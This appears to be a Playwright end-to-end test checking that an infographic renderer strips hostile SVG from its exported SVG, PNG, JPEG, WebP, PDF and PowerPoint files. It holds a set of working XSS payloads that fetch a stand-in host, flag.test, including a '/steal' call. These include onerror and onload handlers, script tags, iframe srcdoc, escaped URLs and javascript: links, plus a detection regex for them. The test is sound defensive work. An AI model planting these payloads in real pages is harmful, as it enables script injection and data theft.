// Hostile SVG in a spec must not come out in the exports: each exported file is opened in a page with no CSP (as a user
// opening the download would), where any script the payload runs, or any outside address it loads, reaches flag.test.
import { SOURCE_KEY } from '../../src/engine/export/embeddedSource';
import { readPngText } from '../../src/engine/export/pngText';
import { rasterSource } from '../../src/engine/export/embeddedSource';
import { unzipSync } from 'fflate';
import type { BrowserContext, Page } from 'playwright-core';
import { useBrowser } from './harness/browserSession';
import { downloadOf as downloadFile } from './harness/downloads';
import { eventually } from './harness/eventually';
import { RendererPage } from './pages/rendererPage';
import { EditorPage } from './pages/editorPage';
import { runAction } from './pages/menus';
import { encodeShareCode } from '../../src/shared/links/shareLink';

const session = useBrowser();

/** What must not survive outside the carried source: script, handlers, the flag's address, its encoded spellings. */
const HOSTILE = /<script|\son[a-z]+\s*=|javascript:|flag\.test|&#x68;ttp|\\68 ttp/i;

const FLAG = 'http://flag.test';
const run = (what: string) => `fetch('${FLAG}/${what}')`;
const OPEN = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24">';
const CIRCLE = '<circle cx="12" cy="12" r="9"/>';

/** One payload per item, in the forms the issue lists; each would reach flag.test if it survived. */
const PAYLOAD_ICONS = [
  `${OPEN}<image href="x.png" onerror="${run('onerror')}" width="1" height="1"/>${CIRCLE}</svg>`,
  `${OPEN}<script>${run('script')}</script>${CIRCLE}</svg>`,
  `${OPEN}<set attributeName="opacity" to="1" onbegin="${run('set')}"/>${CIRCLE}</svg>`,
  `${OPEN}<foreignObject width="9" height="9"><iframe srcdoc="&lt;script&gt;parent.${run('iframe')}&lt;/script&gt;"></iframe></foreignObject>${CIRCLE}</svg>`,
  `${OPEN}<image href="&#x68;ttp://flag.test/entity.png" width="1" height="1"/>${CIRCLE}</svg>`,
  `${OPEN}<circle cx="12" cy="12" r="9" style="fill:url(\\68 ttp://flag.test/css-escape)"/></svg>`,
  `ref:svg:${OPEN}<image href="x.png" onerror="${run('ref-svg')}" width="1" height="1"/>${CIRCLE}</svg>`,
  `data:image/svg+xml,${encodeURIComponent(`${OPEN}<image href="x.png" onerror="${run('data-uri')}" width="1" height="1"/>${CIRCLE}</svg>`)}`,
];

const HOSTILE_SPEC = [
  'infographic list-row-horizontal-icon-arrow',
  'data',
  '  title Hostile icons',
  '  lists',
  ...PAYLOAD_ICONS.flatMap((icon, i) => [`    - label Item ${i + 1}`, `      icon ${icon}`]),
].join('\n');

async function downloadOf(page: Page, click: () => Promise<void>): Promise<Buffer> {
  return (await downloadFile(page, click)).bytes;
}

/** Every request that reached flag.test from this context (answered with an empty 204). */
async function flagHits(context: BrowserContext): Promise<string[]> {
  const hits: string[] = [];
  await context.route(`${FLAG}/**`, (route) => {
    hits.push(new URL(route.request().url()).pathname);
    return route.fulfill({ status: 204 });
  });
  return hits;
}

/** Opens `bytes` as a standalone document at an address with no CSP, and waits until it and its subresources loaded. */
async function openWithoutCsp(context: BrowserContext, bytes: Buffer, contentType: string): Promise<Page> {
  const page = await context.newPage();
  await page.route('http://export.test/**', (route) =>
    // the file itself; anything else it asks for on its own host (x.png) is missing, so onerror handlers would fire
    route.request().url() === 'http://export.test/file' ? route.fulfill({ body: bytes, contentType }) : route.fulfill({ status: 404 }),
  );
  await page.goto('http://export.test/file', { waitUntil: 'load' });
  return page;
}

it('the exported SVG, PNG, JPEG, WebP, PDF and PowerPoint files run no script and load nothing from outside, opened where no CSP protects them', async () => {
  const visit = await session.visit();
  await visit.app.goto('/renderer');
  await visit.app.waitForHeading('Renderer');
  const renderer = new RendererPage(visit.app.page);
  await renderer.source.fill(HOSTILE_SPEC);
  await renderer.waitForPictureText('Hostile icons');
  // the removals are said, as warnings, at the icons' lines
  await eventually(
    () => visit.app.page.getByText(/had content removed that could run script/).count(),
    (count) => expect(count).toBeGreaterThan(0),
    { what: 'an unsafe_svg warning shown' },
  );

  const exportContext = await session.visit().then((v) => v.context);
  const hits = await flagHits(exportContext);

  // control: the first payload, as written, does reach the flag from a page without CSP (so the check below can fail)
  const control = await openWithoutCsp(exportContext, Buffer.from(PAYLOAD_ICONS[0]!), 'image/svg+xml');
  await eventually(
    async () => hits.slice(),
    (seen) => expect(seen).toContain('/onerror'),
    { what: 'the unsanitised payload reaching flag.test' },
  );
  await control.close();
  hits.length = 0;

  const svg = await downloadOf(visit.app.page, () => renderer.runAction('Download SVG'));
  const text = svg.toString('utf8');
  // The file carries the page's source as escaped text in its <metadata> (no element inside it); the picture outside it
  // holds nothing hostile.
  const drawn = text.replace(/<metadata id="infographic-source">[^<]*<\/metadata>/, '');
  expect(drawn).not.toBe(text);
  expect(drawn).not.toMatch(/\son[a-z]+\s*=|javascript:|<script|flag\.test|&#x68;ttp|\\68/i);
  const opened = await openWithoutCsp(exportContext, svg, 'image/svg+xml');
  // give script a chance to run: two frames after load, in the exported document itself
  await opened.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
  expect(await opened.evaluate(() => document.documentElement.localName)).toBe('svg');
  expect(hits).toEqual([]);

  const png = await downloadOf(visit.app.page, () => renderer.runAction('Download PNG'));
  // the same for the PNG: its source is a text chunk, never drawn or run; the rest of the file holds nothing hostile
  const pngSourceText = readPngText(new Uint8Array(png), SOURCE_KEY);
  expect(pngSourceText).toContain('flag.test');
  const pngWithoutSource = png.toString('latin1').replace(Buffer.from(pngSourceText!, 'utf8').toString('latin1'), '');
  expect(pngWithoutSource).not.toMatch(/<script|onerror|javascript:|flag\.test/i);
  const image = await openWithoutCsp(exportContext, png, 'image/png');
  await image.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
  expect(hits).toEqual([]);
  // JPEG and WebP: the source rides in a comment segment / a chunk of its own; the rest holds nothing hostile
  for (const button of ['Download JPEG', 'Download WebP']) {
    const file = await downloadOf(visit.app.page, () => renderer.runAction(button));
    const carried = rasterSource(new Uint8Array(file));
    expect(carried).toContain('flag.test');
    expect(file.toString('latin1').replace(Buffer.from(carried!, 'utf8').toString('latin1'), '')).not.toMatch(HOSTILE);
  }

  // PDF: the source is escaped text in the XMP metadata; outside it no address, script or action
  const pdf = (await downloadOf(visit.app.page, () => renderer.runAction('Download PDF'))).toString('latin1');
  const pdfDrawn = pdf.replace(/<x:xmpmeta[\s\S]*?<\/x:xmpmeta>/, '');
  expect(pdfDrawn).not.toBe(pdf);
  expect(pdfDrawn).not.toMatch(HOSTILE);
  expect(pdfDrawn).not.toMatch(/\/(URI|Launch|JavaScript|JS|GoToR|SubmitForm|ImportData)\b/);

  // PowerPoint: the notes carry the source as text; the slide, the SVG (outside its metadata) and the rest hold nothing hostile
  const deck = unzipSync(new Uint8Array(await downloadOf(visit.app.page, () => renderer.runAction('Download PowerPoint'))));
  for (const [path, bytes] of Object.entries(deck)) {
    if (/^ppt\/notesSlides\//.test(path)) continue;
    const content = Buffer.from(bytes)
      .toString('latin1')
      .replace(/<metadata id="infographic-source">[^<]*<\/metadata>/, '');
    expect({ path, hostile: HOSTILE.test(content) }).toEqual({ path, hostile: false });
  }

  // the app's own page saw no CSP violation either: nothing hostile reached the DOM for the CSP to stop
  expect(visit.watch.problems().cspViolations).toEqual([]);
});

/** The attack run's spec: the root <svg>'s onload, in the tagged-template form a filter on the value's text let through. */
const ROOT_ONLOAD_SPEC = JSON.stringify(
  {
    template: 'list-row-simple-horizontal-arrow',
    data: { title: 'Quarterly plan', lists: [{ label: 'Plan' }, { label: 'Do' }] },
    svg: {
      attributes: {
        onload: "document.title='PWNED';window.__pwned='svgattr';fetch`${FLAG}/steal`",
        style: `background:url(${FLAG}/style)`,
        'xlink:href': 'javascript:fetch`' + FLAG + '/href`',
      },
    },
  },
  null,
  2,
);

it.each(['/renderer', '/editor'])(
  'a share link whose svg.attributes carry onload, an outside url() and javascript: on %s: the page warns, and Download SVG gives a file that runs and loads nothing',
  async (path) => {
    const visit = await session.visit();
    const encoded = encodeShareCode(ROOT_ONLOAD_SPEC);
    if (!encoded.ok) throw new Error(encoded.message);
    await visit.app.goto(`${path}#v=1&code=${encoded.code}`);
    const page = visit.app.page;
    if (path === '/renderer') await new RendererPage(page).waitForPictureText('Quarterly plan');
    else await new EditorPage(page).preview.waitForPictureText('Quarterly plan');
    // the live picture's root holds none of it (the CSP never had to block anything), and each is said at its line
    if (path === '/editor') await runAction(page, 'Show problems');
    const lines = ROOT_ONLOAD_SPEC.split('\n');
    const lineOf = (key: string) => lines.findIndex((line) => line.trim().startsWith(`"${key}":`)) + 1;
    for (const key of ['onload', 'style', 'xlink:href']) {
      const said = page.getByText(
        new RegExp(`line ${lineOf(key)}: The option svg\\.attributes\\.${key} \\(.*\\) is left out of the picture and its exports`, 'i'),
      );
      await eventually(
        () => said.count(),
        (count) => expect(count).toBe(1),
        { what: `the unsafe_option warning for ${key}, at line ${lineOf(key)}` },
      );
    }
    expect(
      await page
        .locator('[aria-label="Preview"] svg')
        .first()
        .evaluate((svg) => svg.getAttribute('onload')),
    ).toBeNull();

    const exportContext = await session.visit().then((v) => v.context);
    const hits = await flagHits(exportContext);
    // control: the attribute as the spec gives it, on an <svg> opened without CSP, does run and fetch (so the check can fail)
    const raw = `<svg xmlns="http://www.w3.org/2000/svg" onload="${"document.title='PWNED';fetch`" + FLAG + '/steal`'}"><rect width="9" height="9"/></svg>`;
    const control = await openWithoutCsp(exportContext, Buffer.from(raw), 'image/svg+xml');
    await eventually(
      async () => ({ hits: hits.slice(), title: await control.title() }),
      (seen) => expect(seen).toEqual({ hits: ['/steal'], title: 'PWNED' }),
      { what: 'the raw onload running in a page without CSP' },
    );
    await control.close();
    hits.length = 0;

    const file = await downloadOf(page, () => runAction(page, 'Download SVG'));
    const text = file.toString('utf8');
    expect(text.replace(/<metadata id="infographic-source">[^<]*<\/metadata>/, '')).not.toMatch(/onload|PWNED|flag\.test|javascript:/i);
    const opened = await openWithoutCsp(exportContext, file, 'image/svg+xml');
    await opened.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
    expect(
      await opened.evaluate(() => ({ title: document.title, pwned: (window as unknown as { __pwned?: string }).__pwned ?? null })),
    ).toEqual({
      title: 'Quarterly plan',
      pwned: null,
    });
    expect(hits).toEqual([]);
    expect(visit.watch.problems().cspViolations).toEqual([]);
  },
);
